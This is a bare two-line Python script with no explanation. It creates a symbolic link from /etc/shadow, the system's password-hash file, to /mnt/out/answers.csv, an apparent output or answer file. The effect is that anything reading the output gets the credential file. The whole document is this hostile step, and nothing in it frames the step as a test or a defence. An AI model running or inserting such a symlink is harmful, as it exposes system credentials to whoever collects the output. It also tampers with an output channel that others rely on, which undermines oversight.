import os

os.symlink("/etc/shadow", "/mnt/out/answers.csv")
